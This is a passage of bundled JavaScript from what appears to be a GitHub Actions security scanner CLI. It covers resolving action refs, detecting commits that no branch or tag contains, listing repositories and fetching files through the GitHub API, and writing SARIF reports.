    this.http = created.ok ? created.value : null;
    this.configurationError = created.ok ? null : created.error;
    this.hostKey = this.http ? this.http.server.origin : "invalid";
  }
  listRefs(owner, repo) {
    const key = `refs|${this.hostKey}|${repoKey(owner, repo)}`;
    return this.cached(
      key,
      this.ttlMs,
      async (http) => {
        const now = this.now();
        const viaGit = await lsRefs(http, owner, repo, now);
        if (viaGit.ok || !["http", "malformed"].includes(viaGit.error.kind)) return viaGit;
        const viaRest = await listRefsRest(http, owner, repo, now);
        return viaRest.ok || viaRest.error.kind === "inconsistent" ? viaRest : viaGit;
      },
      owner,
      repo
    );
  }
  /** Why the advisory database cannot be asked (offline, bad configuration, no token), or null. */
  get advisoriesUnavailable() {
    if (this.offline) return "offline mode is on";
    if (!this.http) return this.configurationError?.message ?? "online checks are off";
    if (!this.http.hasToken) return "no GitHub token is configured (the advisory API is rate-limited without one)";
    return null;
  }
  /** The `actions`-ecosystem advisories that affect `owner/repo` (one request per repository, cached; token only). */
  listAdvisories(owner, repo) {
    const unavailable2 = this.advisoriesUnavailable;
    if (unavailable2)
      return Promise.resolve(fail(this.offline ? "offline" : "invalid", `the advisory database was not queried: ${unavailable2}`));
    const key = `advisories|${this.hostKey}|${repoKey(owner, repo)}`;
    return this.cached(key, this.advisoryTtlMs, (http) => fetchAdvisories(http, owner, repo), owner, repo);
  }
  async resolveRef(owner, repo, ref2) {
    if (FULL_SHA_RE.test(ref2)) return ok({ commit: ref2, via: "sha" });
    const refs = await this.listRefs(owner, repo);
    if (!refs.ok) return refs;
    const found = findRef(refs.value, ref2);
    if (found.branch) return ok({ commit: found.branch.commit, via: "branch" });
    if (found.tag) return ok({ commit: found.tag.commit, via: "tag" });
    if (/^[0-9a-f]{7,39}$/.test(ref2)) {
      const key = `short|${this.hostKey}|${repoKey(owner, repo)}|${ref2}`;
      const expanded = await this.cached(key, MEMBERSHIP_TTL, (http) => commitSha(http, owner, repo, ref2), owner, repo);
      return expanded.ok ? ok({ commit: expanded.value, via: "sha" }) : expanded;
    }
    return fail("not-found", `${owner}/${repo} has no tag or branch named \`${ref2}\``);
  }
  async commitMembership(owner, repo, sha) {
    if (!FULL_SHA_RE.test(sha)) return { status: "unknown", reason: "not a full commit SHA" };
    const refs = await this.listRefs(owner, repo);
    if (!refs.ok) return { status: "unknown", reason: refs.error.message };
    const tip = [...refs.value.branches, ...refs.value.tags].find((ref2) => ref2.commit === sha);
    if (tip) return { status: "reachable", via: `${tip.kind} ${tip.name}` };
    const key = `member|${this.hostKey}|${repoKey(owner, repo)}|${sha}`;
    const result = await this.cached(
      key,
      MEMBERSHIP_TTL,
      async (http) => ok(await this.prove(http, owner, repo, sha, refs.value)),
      owner,
      repo
    );
    return result.ok ? result.value : { status: "unknown", reason: result.error.message };
  }
  /** Compares the commit with each branch (default first) and tag until one contains it. */
  async prove(http, owner, repo, sha, refs) {
    const branches = [...refs.branches].sort((a, b) => Number(b.name === refs.defaultBranch) - Number(a.name === refs.defaultBranch));
    const tags = [...refs.tags].sort((a, b) => compareVersionsDesc(parseVersion(a.name), parseVersion(b.name)));
    const candidates = [...branches, ...tags];
    const seen = /* @__PURE__ */ new Set();
    let checked = 0;
    for (const ref2 of candidates) {
      if (seen.has(ref2.commit)) continue;
      seen.add(ref2.commit);
      if (checked >= this.maxComparisons) {
        return {
          status: "unknown",
          reason: `compared with ${checked} of ${candidates.length} refs without finding ${sha.slice(0, 12)}; the rest were not checked`
        };
      }
      checked++;
      const status = await compare2(http, owner, repo, ref2.commit, sha);
      if (!status.ok) {
        if (status.error.kind === "not-found") return { status: "missing" };
        return { status: "unknown", reason: status.error.message };
      }
      if (status.value === "identical" || status.value === "behind") return { status: "reachable", via: `${ref2.kind} ${ref2.name}` };
    }
    return { status: "impostor", checked };
  }
  /** Memory/disk cache, negative cache, offline and configuration checks, and coalescing, around `load`. */
  async cached(key, ttlMs, load, owner, repo) {
    if (this.offline) return fail("offline", "offline mode is on: no request was made");
    if (!this.http) return { ok: false, error: this.configurationError };
    if (!isValidRepoName(owner, repo)) return fail("invalid", `\`${owner}/${repo}\` is not a valid repository name`);
    const hit = this.cache.get(key, ttlMs);
    if (hit !== void 0) return ok(hit);
    const failure = this.failures.get(key);
    if (failure && failure.until > this.now()) return { ok: false, error: failure.error };
    const running = this.inflight.get(key);
    if (running) return running;
    const http = this.http;
    const promise = (async () => {
      let result;
      try {
        result = await load(http);
      } catch (error) {
        result = fail("network", `unexpected resolver error: ${error instanceof Error ? error.message : String(error)}`);
      }
      if (result.ok) {
        this.cache.set(key, result.value);
        this.failures.delete(key);
      } else if (result.error.kind !== "host-down") {
        const until = result.error.retryAt ?? this.now() + this.negativeTtlMs;
        this.failures.set(key, { error: result.error, until });
      }
      return result;
    })();
    this.inflight.set(key, promise);
    try {
      return await promise;
    } finally {
      this.inflight.delete(key);
    }
  }
};

// server/src/cli/online.ts
function wantsOnline(options, env) {
  if (options.offline) return false;
  return options.online || options.githubServerUrl !== void 0 || options.githubApiUrl !== void 0 || Boolean(env.GITHUB_TOKEN || env.GH_TOKEN);
}
async function cliOnlineSnapshot(hosts, env, targets3, warn2, resolverOptions = {}) {
  const resolver = new GitHubResolver({
    serverUrl: hosts.serverUrl,
    apiUrl: hosts.apiUrl,
    token: env.GITHUB_TOKEN || env.GH_TOKEN || void 0,
    cacheDir: defaultCliCacheDir(env),
    ...resolverOptions,
    // One note per host per outage, not one per repository.
    onHostStatus: (event) => {
      if (event.state === "down") warn2(event.message);
    }
  });
  if (resolver.configurationError || !resolver.http) {
    warn2(`online checks are off: ${resolver.configurationError?.message ?? "no GitHub host"} (from ${hosts.source})`);
    return void 0;
  }
  const serverUrl = `${resolver.http.server.origin}${trimEndOf(resolver.http.server.pathname, "/")}`;
  const files = [];
  for (const target of targets3) {
    if (target.path === STDIN_PATH || target.kind === "dependabot") continue;
    const read = readTargetOf(target);
    if (read.ok && "text" in read) files.push(parseFile(target.virtual?.repoPath ?? target.path, target.kind, read.text));
  }
  const snapshot = await collectSnapshot(files, resolver, { serverUrl });
  if (snapshot.advisoriesSkipped && files.some((file) => file.uses.some((site) => site.reference.kind === "remote"))) {
    warn2(
      `GitHub's advisory database was not queried: ${snapshot.advisoriesSkipped}; set GITHUB_TOKEN to check it (the bundled advisories are still checked)`
    );
  }
  for (const [name, result] of snapshot.advisories ?? []) {
    if (!result.ok) {
      warn2(`could not read the advisories of ${name}: ${result.error.message}; only the bundled advisories are checked for it`);
      break;
    }
  }
  const failed = [...snapshot.repos].filter(([, result]) => !result.ok);
  if (failed.length > 0) {
    const [name, result] = failed.find(([, r2]) => !r2.ok && r2.error.kind !== "host-down") ?? failed[0];
    const skipped = failed.filter(([, r2]) => !r2.ok && r2.error.kind === "host-down").length;
    const them = failed.length === 1 ? "it" : "them";
    warn2(
      `could not resolve ${failed.length} repositor${failed.length === 1 ? "y" : "ies"} (${name}: ${!result.ok ? result.error.message : ""}${skipped > 0 ? `; ${skipped} not asked because the host was not answering` : ""}); no pin or online check for ${them}`
    );
  }
  return snapshot;
}

// server/src/resolve/repo-tree.ts
var import_node_crypto4 = require("node:crypto");
var import_node_fs9 = require("node:fs");
var import_node_path8 = require("node:path");
var JSON_HEADERS = { Accept: "application/vnd.github+json", "X-GitHub-Api-Version": "2022-11-28" };
var OBJECT_SHA_RE = /^(?:[0-9a-f]{40}|[0-9a-f]{64})$/;
var MAX_TREE_PATH = 4096;
var MAX_REPO_PAGES = 100;
function repoPath2(owner, repo) {
  return `/repos/${encodeURIComponent(owner)}/${encodeURIComponent(repo)}`;
}
async function getJson2(http, path) {
  const response = await http.request("api", path, { auth: "bearer", headers: JSON_HEADERS });
  if (!response.ok) return response;
  try {
    return ok({ value: JSON.parse(new TextDecoder().decode(response.value.body)), link: response.value.headers.get("link") });
  } catch {
    return fail("malformed", `${http.api.host} sent malformed JSON for ${path.split("?")[0]}`);
  }
}
var isObject = (value) => typeof value === "object" && value !== null && !Array.isArray(value);
async function repositoryInfo(http, owner, repo) {
  const body = await getJson2(http, repoPath2(owner, repo));
  if (!body.ok) {
    if (body.error.kind === "not-found")
      return fail("not-found", `${owner}/${repo} was not found on ${http.api.host} (or it is private and the token cannot read it)`);
    return body;
  }
  const info = repoFromJson(body.value.value);
  return info ? ok(info) : fail("malformed", `${http.api.host} sent malformed repository metadata for ${owner}/${repo}`);
}
function repoFromJson(value) {
  if (!isObject(value)) return null;
  const fullName = value.full_name;
  const branch = value.default_branch;
  if (typeof fullName !== "string" || typeof branch !== "string" || branch === "" || branch.length > 255) return null;
  const slash = fullName.indexOf("/");
  const owner = fullName.slice(0, slash);
  const repo = fullName.slice(slash + 1);
  if (slash < 0 || !isValidRepoName(owner, repo)) return null;
  return { owner, repo, defaultBranch: branch, archived: value.archived === true, fork: value.fork === true };
}
async function gitTree(http, owner, repo, sha, recursive) {
  if (!OBJECT_SHA_RE.test(sha)) return fail("invalid", `\`${sha}\` is not a git object name`);
  const body = await getJson2(http, `${repoPath2(owner, repo)}/git/trees/${sha}${recursive ? "?recursive=1" : ""}`);
  if (!body.ok) {
    if (body.error.kind === "not-found") return fail("not-found", `${owner}/${repo} has no tree or commit ${sha.slice(0, 12)}`);
    return body;
  }
  const value = body.value.value;
  if (!isObject(value) || !Array.isArray(value.tree))
    return fail("malformed", `${http.api.host} sent a malformed tree for ${owner}/${repo}`);
  const entries = [];
  for (const item of value.tree) {
    if (!isObject(item)) continue;
    const { path, type, mode, sha: entrySha, size } = item;
    if (typeof path !== "string" || typeof type !== "string" || typeof mode !== "string" || typeof entrySha !== "string") continue;
    if (!OBJECT_SHA_RE.test(entrySha) || path === "" || path.length > MAX_TREE_PATH) continue;
    entries.push({ path, type, mode, sha: entrySha, ...typeof size === "number" && size >= 0 ? { size } : {} });
  }
  return ok({ entries, truncated: value.truncated === true });
}
function gitBlobSha1(bytes) {
  return (0, import_node_crypto4.createHash)("sha1").update(`blob ${bytes.length}\0`).update(bytes).digest("hex");
}
async function gitBlob(http, owner, repo, sha) {
  if (!OBJECT_SHA_RE.test(sha)) return fail("invalid", `\`${sha}\` is not a git object name`);
  const body = await getJson2(http, `${repoPath2(owner, repo)}/git/blobs/${sha}`);
  if (!body.ok) return body;
  const value = body.value.value;
  if (!isObject(value) || typeof value.content !== "string" || value.encoding !== "base64" && value.encoding !== "utf-8")
    return fail("malformed", `${http.api.host} sent a malformed blob ${sha.slice(0, 12)} for ${owner}/${repo}`);
  const bytes = value.encoding === "base64" ? Buffer.from(value.content, "base64") : Buffer.from(value.content, "utf8");
  if (sha.length === 40 && gitBlobSha1(bytes) !== sha)
    return fail(
      "inconsistent",
      `${http.api.host} sent content for blob ${sha.slice(0, 12)} of ${owner}/${repo} that does not match its SHA; it was not used`
    );
  return ok(bytes);
}
var BlobCache = class {
  folder;
  constructor(dir, apiOrigin) {
    this.folder = dir ? (0, import_node_path8.join)(dir, "blobs", (0, import_node_crypto4.createHash)("sha256").update(apiOrigin).digest("hex").slice(0, 16)) : null;
  }
  get(sha) {
    if (!this.folder || !OBJECT_SHA_RE.test(sha)) return void 0;
    try {
      const bytes = (0, import_node_fs9.readFileSync)((0, import_node_path8.join)(this.folder, sha));
      return sha.length !== 40 || gitBlobSha1(bytes) === sha ? bytes : void 0;
    } catch {
      return void 0;
    }
  }
  set(sha, bytes) {
    if (!this.folder || !OBJECT_SHA_RE.test(sha)) return;
    try {
      (0, import_node_fs9.mkdirSync)(this.folder, { recursive: true });
      const file = (0, import_node_path8.join)(this.folder, sha);
      const temporary = `${file}.${process.pid}.${Math.random().toString(36).slice(2)}.tmp`;
      (0, import_node_fs9.writeFileSync)(temporary, bytes);
      (0, import_node_fs9.renameSync)(temporary, file);
    } catch {
    }
  }
};
function nextPage(link) {
  if (!link) return null;
  for (const part of link.split(",")) {
    const close = part.indexOf(">");
    if (part.indexOf("<") < 0 || close < 0 || !part.slice(close + 1).includes('rel="next"')) continue;
    const target = part.slice(part.indexOf("<") + 1, close);
    let url;
    try {
      url = new URL(target, "https://invalid.invalid");
    } catch {
      return null;
    }
    const page = Number(url.searchParams.get("page"));
    return Number.isInteger(page) && page > 0 ? page : null;
  }
  return null;
}
async function listOwnerRepos(http, owner) {
  if (!isValidRepoName(owner, "x")) return fail("invalid", `\`${owner}\` is not a valid organisation or user name`);
  const listing = { repos: [], malformed: 0, capped: false, user: false };
  let base2 = `/orgs/${encodeURIComponent(owner)}/repos?per_page=100&type=all`;
  let page = 1;
  const seen = /* @__PURE__ */ new Set();
  while (page !== null) {
    if (seen.size >= MAX_REPO_PAGES) {
      listing.capped = true;
      break;
    }
    seen.add(page);
    const body = await getJson2(http, `${base2}&page=${page}`);
    if (!body.ok) {
      if (body.error.kind === "not-found" && page === 1 && !listing.user) {
        listing.user = true;
        base2 = `/users/${encodeURIComponent(owner)}/repos?per_page=100&type=owner`;
        seen.clear();
        continue;
      }
      if (body.error.kind === "not-found") return fail("not-found", `${owner} is neither an organisation nor a user on ${http.api.host}`);
      return body;
    }
    if (!Array.isArray(body.value.value)) return fail("malformed", `${http.api.host} sent a malformed repository list for ${owner}`);
    for (const item of body.value.value) {
      const info = repoFromJson(item);
      if (info) listing.repos.push(info);
      else listing.malformed++;
    }
    const next = nextPage(body.value.link);
    page = next !== null && !seen.has(next) ? next : null;
  }
  return ok(listing);
}

// server/src/cli/remote.ts
var REPO_INFO_TTL = 15 * 60 * 1e3;
var FOREVER = Number.POSITIVE_INFINITY;
function parseRepoSpec(given) {
  const at = given.indexOf("@");
  const name = at < 0 ? given : given.slice(0, at);
  const ref2 = at < 0 ? void 0 : given.slice(at + 1);
  const slash = name.indexOf("/");
  if (slash < 0) return null;
  const owner = name.slice(0, slash);
  const repo = name.slice(slash + 1);
  if (!isValidRepoName(owner, repo)) return null;
  if (ref2 !== void 0 && !isRefName(ref2)) return null;
  return ref2 === void 0 ? { owner, repo, given } : { owner, repo, ref: ref2, given };
}
function looksLikeRepoSpec(given) {
  const at = given.indexOf("@");
  const name = at < 0 ? given : given.slice(0, at);
  const slash = name.indexOf("/");
  return slash > 0 && slash === name.lastIndexOf("/") && slash < name.length - 1 && !name.startsWith(".");
}
function isRefName(ref2) {
  if (ref2 === "" || ref2.length > 255 || ref2.startsWith("/") || ref2.startsWith("-") || ref2.endsWith("/") || ref2.endsWith(".")) return false;
  if (ref2.endsWith(".lock") || ref2 === "@") return false;
  let previous = "";
  for (const char of ref2) {
    const code = char.charCodeAt(0);
    if (code <= 32 || code >= 127 || "~^:?*[\\".includes(char)) return false;
    if (char === "." && previous === "." || char === "/" && previous === "/" || char === "{" && previous === "@") return false;
    if (char === "." && (previous === "/" || previous === "")) return false;
    previous = char;
  }
  return true;
}
function badRepoSpecMessage(given) {
  return `'${given}' is neither a file or folder nor a repository: a repository is owner/repo or owner/repo@ref, the owner 1-39 letters, digits or hyphens, the repository 1-100 letters, digits, '.', '_' or '-'`;
}
function stopsTheScan(error) {
  return error.kind === "rate-limited" || error.kind === "host-down" || error.kind === "timeout" || error.kind === "network";
}
var StopScan = class extends Error {
  constructor(error) {
    super(error.message);
    this.error = error;
  }
  error;
};
function unwrap3(result) {
  if (result.ok) return result.value;
  if (stopsTheScan(result.error)) throw new StopScan(result.error);
  return result.error;
}
function isError(value) {
  return typeof value === "object" && value !== null && "kind" in value && "message" in value && !("entries" in value);
}
async function scanRemote(specs, orgs, options) {
  const scan = { targets: [], configs: /* @__PURE__ */ new Map(), origins: [], errors: [], notes: [] };
  const resolver = new GitHubResolver({
    serverUrl: options.serverUrl,
    apiUrl: options.apiUrl,
    token: options.token,
    cacheDir: options.cacheDir,
    ...options.timeoutMs !== void 0 ? { timeoutMs: options.timeoutMs } : {}
  });
  const http = resolver.http;
  if (!http) {
    scan.errors.push(`cannot scan repositories: ${resolver.configurationError?.message ?? "no GitHub host"}`);
    return scan;
  }
  const serverUrl = `${http.server.origin}${trimEndOf(http.server.pathname, "/")}`;
  const metadata = new TtlCache(options.cacheDir, Date.now);
  const blobs = new BlobCache(options.cacheDir, http.api.origin);
  const queue = [...specs.map((spec) => ({ spec })), ...orgs.map((org) => ({ org }))];
  const seen = /* @__PURE__ */ new Set();
  for (let index = 0; index < queue.length; index++) {
    const item = queue[index];
    try {
      if ("org" in item) {
        const listed = unwrap3(await listOwnerRepos(http, item.org));
        if (isError(listed)) {
          scan.errors.push(`--org ${item.org}: ${listed.message}`);
          continue;
        }
        const archived = listed.repos.filter((repo) => repo.archived);
        const forks = listed.repos.filter((repo) => !repo.archived && repo.fork && !options.includeForks);
        const kept = listed.repos.filter((repo) => !repo.archived && (!repo.fork || options.includeForks));
        const skippedParts = [
          archived.length > 0 ? `${archived.length} archived` : "",
          forks.length > 0 ? `${forks.length} ${forks.length === 1 ? "fork" : "forks"} (--include-forks scans them)` : "",
          listed.malformed > 0 ? `${listed.malformed} malformed ${listed.malformed === 1 ? "entry" : "entries"}` : ""
        ].filter(Boolean);
        scan.notes.push(
          `${item.org}${listed.user ? " (a user)" : ""}: ${listed.repos.length} ${listed.repos.length === 1 ? "repository" : "repositories"} listed, ${kept.length} to scan` + (skippedParts.length > 0 ? `; skipped ${skippedParts.join(", ")}` : "")
        );
        if (listed.capped) scan.notes.push(`${item.org}: only the first ${listed.repos.length} repositories were listed (page limit)`);
        queue.splice(
          index + 1,
          0,
          ...kept.map((info) => ({ spec: { owner: info.owner, repo: info.repo, given: `${info.owner}/${info.repo}` }, info }))
        );
        continue;
      }
      const key = `${repoKey(item.spec.owner, item.spec.repo)}@${item.spec.ref ?? ""}`;
      if (seen.has(key)) continue;
      seen.add(key);
      await scanOne(item.spec, item.info, { http, resolver, serverUrl, metadata, blobs, scan });
    } catch (error) {
      if (!(error instanceof StopScan)) throw error;
      const rest = queue.slice(index).map((work) => "org" in work ? `--org ${work.org}` : work.spec.given);
      scan.errors.push(`${error.error.message}; stopped: not scanned: ${rest.join(", ")}`);
      break;
    }
  }
  return scan;
}
async function scanOne(spec, listed, context) {
  const { http, resolver, serverUrl, metadata, blobs, scan } = context;
  const name = `${spec.owner}/${spec.repo}`;
  let ref2 = spec.ref;
  let owner = spec.owner;
  let repo = spec.repo;
  if (ref2 === void 0) {
    let info = listed;
    if (!info) {
      const infoKey = `repo-info|${http.api.origin}|${repoKey(owner, repo)}`;
      info = metadata.get(infoKey, REPO_INFO_TTL);
      if (!info) {
        const fetched = unwrap3(await repositoryInfo(http, owner, repo));
        if (isError(fetched)) {
          scan.errors.push(`${spec.given}: ${fetched.message}`);
          return;
        }
        info = fetched;
        metadata.set(infoKey, info);
      }
    }
    ref2 = info.defaultBranch;
    owner = info.owner;
    repo = info.repo;
  }
  let commit;
  if (FULL_SHA_RE.test(ref2)) commit = ref2;
  else {
    const resolved = unwrap3(await resolver.resolveRef(owner, repo, ref2));
    if (isError(resolved)) {
      if (spec.ref === void 0 && resolved.kind === "not-found") {
        scan.notes.push(`${name}: nothing to scan (its default branch \`${ref2}\` has no commit: an empty repository)`);
        return;
      }
      scan.errors.push(`${spec.given}: ${resolved.message}`);
      return;
    }
    commit = resolved.commit;
  }
  const origin = {
    owner,
    repo,
    ref: ref2,
    commit,
    repositoryUrl: `${serverUrl}/${owner}/${repo}`,
    label: `${owner}/${repo}@${commit.slice(0, 7)}`
  };
  const selectionKey = `tree-selection|${http.api.origin}|${repoKey(owner, repo)}|${commit}`;
  let selection = metadata.get(selectionKey, FOREVER);
  if (!selection) {
    const selected = await selectTree(http, owner, repo, commit);
    if (isError(selected)) {
      scan.errors.push(`${spec.given}: ${selected.message}`);
      return;
    }
    selection = selected;
    metadata.set(selectionKey, selection);
  }
  for (const note of selection.notes) scan.notes.push(`${origin.label}: ${note}`);
  const read = async (sha, size) => {
    if (size !== void 0 && size > MAX_READ_BYTES) return { tooLarge: size };
    const cached = blobs.get(sha);
    if (cached) return { text: decode(cached) };
    const bytes = unwrap3(await gitBlob(http, owner, repo, sha));
    if (isError(bytes)) return bytes;
    blobs.set(sha, bytes);
    if (bytes.length > MAX_READ_BYTES) return { tooLarge: bytes.length };
    return { text: decode(bytes) };
  };
  const contents = await Promise.all(selection.files.map((file) => read(file.sha, file.size)));
  selection.files.forEach((file, index) => {
    const content = contents[index];
    const displayPath2 = `${origin.label}:${file.path}`;
    if (isError(content)) {
      scan.errors.push(`${displayPath2}: ${content.message}`);
      origin.incomplete = true;
      return;
    }
    const virtual = { origin, repoPath: file.path, content };
    scan.targets.push({ path: displayPath2, displayPath: displayPath2, kind: file.kind, explicit: false, root: "", rootPath: "", virtual });
  });
  if (selection.config) {
    const content = await read(selection.config.sha, selection.config.size);
    const shown = `${origin.label}:${selection.config.path}`;
    if (isError(content)) {
      scan.errors.push(`${shown}: ${content.message}`);
      origin.incomplete = true;
    } else if ("tooLarge" in content)
      scan.errors.push(`${shown}: the configuration file is ${Math.round(content.tooLarge / 1024)} KiB; it was not read`);
    else scan.configs.set(origin.label, { origin, repoPath: selection.config.path, format: selection.config.format, text: content.text });
  }
  scan.origins.push(origin);
}
async function selectTree(http, owner, repo, commit) {
  const whole = unwrap3(await gitTree(http, owner, repo, commit, true));
  if (isError(whole)) return whole;
  const notes = [];
  let entries = whole.entries;
  if (whole.truncated) {
    const byPath = new Map(entries.map((entry) => [entry.path, entry]));
    const root = unwrap3(await gitTree(http, owner, repo, commit, false));
    if (isError(root)) return root;
    for (const entry of root.entries) byPath.set(entry.path, entry);
    const dotGithub = root.entries.find((entry) => entry.path === ".github" && entry.type === "tree");
    let githubComplete = true;
    if (dotGithub) {
      const sub = unwrap3(await gitTree(http, owner, repo, dotGithub.sha, true));
      if (isError(sub)) return sub;
      githubComplete = !sub.truncated;
      for (const entry of sub.entries) byPath.set(`.github/${entry.path}`, { ...entry, path: `.github/${entry.path}` });
    }
    entries = [...byPath.values()];
    notes.push(
      `GitHub truncated the listing of this repository's files (too many for one answer): the root and .github were listed ${githubComplete ? "in full" : "as far as GitHub would"}, but action.yml files in other folders were looked for only among the ${whole.entries.length} entries GitHub did list; scan a clone to be sure of the rest`
    );
  }
  const files = [];
  const symlinks = [];
  const paths = /* @__PURE__ */ new Set();
  for (const entry of entries) {
    if (entry.type !== "blob") continue;
    const kind = collectedKind(entry.path);
    const format = kind === null ? findConfigName(entry.path) : null;
    if (kind === null && format === null) continue;
    if (entry.mode === "120000") {
      if (kind !== null) symlinks.push(entry.path);
      continue;
    }
    if (kind !== null && !paths.has(entry.path)) {
      paths.add(entry.path);
      files.push({ path: entry.path, sha: entry.sha, kind, ...entry.size !== void 0 ? { size: entry.size } : {} });
    }
  }
  if (symlinks.length > 0)
    notes.push(
      `skipped ${symlinks.length} symbolic ${symlinks.length === 1 ? "link" : "links"} (not followed in a repository scan): ${symlinks.join(", ")}`
    );
  files.sort((a, b) => a.path < b.path ? -1 : a.path > b.path ? 1 : 0);
  const config = chooseConfig(entries);
  return { files, notes, ...config ? { config } : {} };
}
var CONFIG_NAMES = [
  ...OUR_CONFIG_FILES.map((path) => ({ path, format: "warden" })),
  ...ZIZMOR_CONFIG_FILES.map((path) => ({ path, format: "zizmor" }))
];
function findConfigName(path) {
  const rank = CONFIG_NAMES.findIndex((name) => name.path === path);
  return rank < 0 ? null : { format: CONFIG_NAMES[rank].format, rank };
}
function chooseConfig(entries) {
  let best;
  for (const entry2 of entries) {
    if (entry2.type !== "blob" || entry2.mode === "120000") continue;
    const found2 = findConfigName(entry2.path);
    if (found2 && (!best || found2.rank < best.found.rank)) best = { entry: entry2, found: found2 };
  }
  if (!best) return void 0;
  const { entry, found } = best;
  return { path: entry.path, sha: entry.sha, format: found.format, ...entry.size !== void 0 ? { size: entry.size } : {} };
}

// server/src/cli/sarif-dir.ts
var import_node_fs10 = require("node:fs");
var import_node_path9 = require("node:path");
function safeNamePart(text) {
  let out = "";
  for (const char of text) out += /^[A-Za-z0-9._-]$/.test(char) ? char : "_";
  if (out === "" || out.startsWith(".")) out = `_${out}`;
  return out.slice(0, 120);
}
function sarifFileName(origin, taken) {
  const base2 = `${safeNamePart(origin.owner)}__${safeNamePart(origin.repo)}`;
  let name = `${base2}.sarif`;
  if (taken.has(name.toLowerCase())) name = `${base2}__${origin.commit.slice(0, 12)}.sarif`;
  for (let index = 2; taken.has(name.toLowerCase()); index++) name = `${base2}__${origin.commit.slice(0, 12)}-${index}.sarif`;
  taken.add(name.toLowerCase());
  return name;
}
function writeSarifDir(dir, origins, results) {
  const files = [];
  const errors = [];
  if (origins.length === 0) return { files, errors };
  try {
    (0, import_node_fs10.mkdirSync)(dir, { recursive: true });
  } catch (error) {
    return { files, errors: [`--sarif-dir: cannot create the folder: ${error instanceof Error ? error.message : String(error)}`] };
  }
  const taken = /* @__PURE__ */ new Set();
  for (const origin of origins) {
    if (origin.incomplete) {
      errors.push(`--sarif-dir: no SARIF file for ${origin.label}: some of its files could not be read`);
      continue;
    }
    const name = sarifFileName(origin, taken);
    const file = (0, import_node_path9.join)(dir, name);
    const temporary = (0, import_node_path9.join)(dir, `.${name}.${process.pid}.${Math.random().toString(36).slice(2)}.tmp`);
    try {
      (0, import_node_fs10.writeFileSync)(
        temporary,
        formatSarif(
          results.filter((result) => result.origin?.label === origin.label),
          [origin]
        ),
        { flag: "wx" }
      );
      (0, import_node_fs10.renameSync)(temporary, file);
      files.push(file);
    } catch (error) {
      (0, import_node_fs10.rmSync)(temporary, { force: true });
      errors.push(`--sarif-dir: cannot write ${name}: ${error instanceof Error ? error.message : String(error)}`);
    }
  }
  return { files, errors };
}

// server/src/cli/run.ts
var EXIT_OK = 0;
var EXIT_FINDINGS = 1;
var EXIT_ERROR = 2;
var MAX_FIX_ROUNDS = 10;
async function run(argv, io) {
  const parsed = parseArgs(argv);
  if (!parsed.ok) {
    io.stderr.write(`${TOOL_NAME}: ${escapeText(parsed.error)}
Try '${TOOL_NAME} --help' for more information.
`);
    return EXIT_ERROR;
  }
  const options = parsed.options;
  if (options.help) {
    io.stdout.write(HELP_TEXT);
    return EXIT_OK;
  }
  if (options.version) {
    io.stdout.write(`${TOOL_NAME} ${VERSION}
`);
    return EXIT_OK;
  }
  const localPaths = [];
  const specs = [];
  for (const [index, given] of options.paths.entries()) {
    const firstPart = given.split(/[\\/]/)[0];
    if (given === STDIN_PATH || index >= options.pathsBeforeDashDash || existsOnDisk((0, import_node_path10.resolve)(io.cwd, given)) || firstPart !== "" && existsOnDisk((0, import_node_path10.resolve)(io.cwd, firstPart))) {
      localPaths.push(given);
      continue;
    }
    const spec = parseRepoSpec(given);
    if (spec) specs.push(spec);
    else if (looksLikeRepoSpec(given)) {
      io.stderr.write(`${TOOL_NAME}: ${escapeText(badRepoSpecMessage(given))}
Try '${TOOL_NAME} --help' for more information.
`);
      return EXIT_ERROR;
    } else localPaths.push(given);
  }
  const remoteWanted = specs.length > 0 || options.orgs.length > 0;
  if (remoteWanted && options.fix) {
    io.stderr.write(
      `${TOOL_NAME}: --fix cannot be used with a repository scanned through the API (${escapeText(specs[0]?.given ?? `--org ${options.orgs[0]}`)}): it is not on disk; clone it to fix it
`
    );
    return EXIT_ERROR;
  }
  if (remoteWanted && options.offline) {
    io.stderr.write(
      `${TOOL_NAME}: error: cannot scan ${escapeText(specs[0]?.given ?? `--org ${options.orgs[0]}`)}: scanning a repository that is not on disk needs the network, and --offline is set (an argument that exists on disk is read as a path)
`
    );
    return EXIT_ERROR;
  }
  if (options.sarifDir !== void 0 && !remoteWanted) {
    io.stderr.write(`${TOOL_NAME}: --sarif-dir needs owner/repo arguments or --org (for files on disk, use --format sarif)
`);
    return EXIT_ERROR;
  }
  const errors = [];
  const overrides = {
    persona: options.explicit.includes("persona") ? options.persona : void 0,
    minSeverity: options.explicit.includes("minSeverity") ? options.minSeverity : void 0,
    minConfidence: options.explicit.includes("minConfidence") ? options.minConfidence : void 0
  };
  const base2 = {
    ...DEFAULT_ANALYSIS_OPTIONS,
    ...options.noIgnores || options.format === "sarif" || options.format === "text" ? { keepSuppressed: true } : {}
  };
  let globalConfig = null;
  if (options.config !== void 0) {
    const path = (0, import_node_path10.resolve)(io.cwd, options.config);
    try {
      (0, import_node_fs11.readFileSync)(path);
    } catch (error) {
      io.stderr.write(
        `${TOOL_NAME}: error: --config ${escapeText(options.config)}: ${escapeText(error instanceof Error ? error.message : String(error))}
`
      );
      return EXIT_ERROR;
    }
    globalConfig = { config: loadConfig(path), root: io.cwd };
  }
  const discovered = /* @__PURE__ */ new Map();
  const usedConfigs = /* @__PURE__ */ new Set();
  const foundByFolder = /* @__PURE__ */ new Map();
  const boundaryByRoot = /* @__PURE__ */ new Map();
  let remote;
  const remoteChoices = /* @__PURE__ */ new Map();
  const remoteConfigs = /* @__PURE__ */ new Map();
  const configFor = (target) => {
    if (options.noConfig) return { config: null, root: io.cwd };
    if (globalConfig) return globalConfig;
    if (target.virtual) {
      const label = target.virtual.origin.label;
      let choice2 = remoteChoices.get(label);
      if (!choice2) {
        const file = remote?.configs.get(label);
        choice2 = file ? { config: parseConfig(file.text, `${label}:${file.repoPath}`, file.format), root: "" } : { config: null, root: io.cwd };
        if (file && choice2.config) remoteConfigs.set(choice2.config, { origin: file.origin, repoPath: file.repoPath });
        remoteChoices.set(label, choice2);
      }
      return choice2;
    }
    const start = target.path === STDIN_PATH ? io.cwd : (0, import_node_path10.dirname)(target.path);
    let found2 = foundByFolder.get(start);
    if (found2 === void 0) {
      const scannedRoot = target.path === STDIN_PATH ? io.cwd : target.rootPath;
      let boundary = boundaryByRoot.get(scannedRoot);
      if (boundary === void 0) boundaryByRoot.set(scannedRoot, boundary = configSearchBoundary(scannedRoot));
      found2 = findConfig(start, boundary);
      foundByFolder.set(start, found2);
    }
    if (!found2) return { config: null, root: io.cwd };
    let choice = discovered.get(found2.path);
    if (!choice) {
